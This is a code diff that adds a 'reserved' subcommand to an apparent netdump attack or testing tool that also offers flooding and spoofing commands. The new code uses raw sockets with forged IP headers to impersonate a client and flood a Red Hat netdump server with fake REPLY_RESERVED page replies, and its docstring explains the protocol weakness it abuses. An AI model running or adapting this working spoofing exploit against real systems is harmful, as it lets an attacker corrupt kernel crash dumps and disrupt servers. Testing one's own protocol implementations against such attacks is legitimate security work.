@@ -887,6 +887,30 @@ def cmd_announce(a):
          ", HELLO replies numbered 1-%d" % a.guess if a.guess else ""))
 
 
+def cmd_reserved(a):
+    """A blind forger of page replies in Red Hat's protocol: REPLY_RESERVED
+    (5) "this frame is not RAM, and no RAM follows" (info 0), forged
+    (IP_HDRINCL) from ADDR:SPORT, with request numbers 0 to N - 1, over
+    and over for SECONDS. The RHEL 4 client answers a page request with
+    the request's own nr and takes the frame from its "from"
+    (drivers/net/netdump.c, send_netdump_mem), so a server whose nr is
+    the frame number lets anyone who knows the client's address answer
+    for frames it has not sent yet."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    dgrams = [forged(a.addr, a.sport, SERVER, a.port,
+                     struct.pack(">BIII", 4, nr, 4, 0))
+              for nr in range(a.n)]
+    end = time.monotonic() + a.seconds
+    sent = 0
+    while time.monotonic() < end:
+        for d in dgrams:
+            raw.sendto(d, (SERVER, 0))
+        sent += len(dgrams)
+    note("%d REPLY_RESERVED forged from %s:%d, numbered 0-%d"
+         % (sent, a.addr, a.sport, a.n - 1))
+
+
 # ------------------------------------------------------------------ hog
 
 def exchange(s, dest, dgrams, timeout, rounds):
@@ -1206,8 +1230,14 @@ def main():
     x.add_argument("--hello", action="store_true")
     x.add_argument("--guess", type=int, default=0, metavar="N",
                    help="then HELLO replies numbered 1 to N from each")
+    x = sub.add_parser("reserved")
+    x.add_argument("port", type=int)
+    x.add_argument("addr")
+    x.add_argument("n", type=int)
+    x.add_argument("seconds", type=float)
+    x.add_argument("--sport", type=int, default=6666)
     a = p.parse_args()
-    {"check": cmd_check, "dump": cmd_dump, "herald-flood": cmd_herald_flood,
+    {"reserved": cmd_reserved, "check": cmd_check, "dump": cmd_dump, "herald-flood": cmd_herald_flood,
      "session-flood": cmd_session_flood, "spoof": cmd_spoof,
      "far": cmd_far, "fragments": cmd_fragments, "conflict": cmd_conflict,
      "spoof-herald": cmd_spoof_herald, "hog": cmd_hog,
